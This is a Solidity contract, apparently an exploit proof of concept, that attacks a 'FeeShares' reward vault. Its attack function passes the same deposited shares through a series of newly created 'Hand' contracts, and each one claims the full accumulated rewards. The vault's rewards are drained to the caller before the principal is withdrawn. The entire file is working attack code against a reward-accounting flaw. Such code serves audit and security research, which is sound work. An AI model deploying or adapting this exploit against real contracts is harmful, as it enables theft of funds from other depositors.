// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;

import {FeeShares} from "./FeeShares.sol";
import {Hand} from "./Hand.sol";

/// @title Passes borrowed or bought shares from hand to hand, each of which claims all that was ever earned by them
contract Passer {
    function enter(FeeShares shares, uint256 amount) external {
        shares.asset().approve(address(shares), amount);
        shares.deposit(amount);
    }

    function attack(FeeShares shares, uint256 hands) external {
        uint256 amount = shares.balanceOf(address(this));
        shares.getReward();
        for (uint256 i; i < hands; i++) {
            Hand hand = new Hand();
            shares.transfer(address(hand), amount);
            hand.claim(shares);
        }
        shares.withdraw(amount);
        shares.rewardsToken().transfer(msg.sender, shares.rewardsToken().balanceOf(address(this)));
        shares.asset().transfer(msg.sender, amount);
    }
}
